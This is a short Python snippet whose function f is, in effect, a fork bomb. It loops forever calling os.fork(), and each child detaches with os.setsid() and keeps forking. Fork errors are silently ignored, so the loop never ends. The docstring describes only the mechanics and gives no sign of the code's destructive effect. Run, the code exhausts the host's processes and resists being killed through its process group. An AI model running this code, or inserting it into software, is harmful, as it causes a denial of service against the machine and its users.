"""Its children leave its session and process group, each with children of its own."""

import os


def f(x):
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            pass
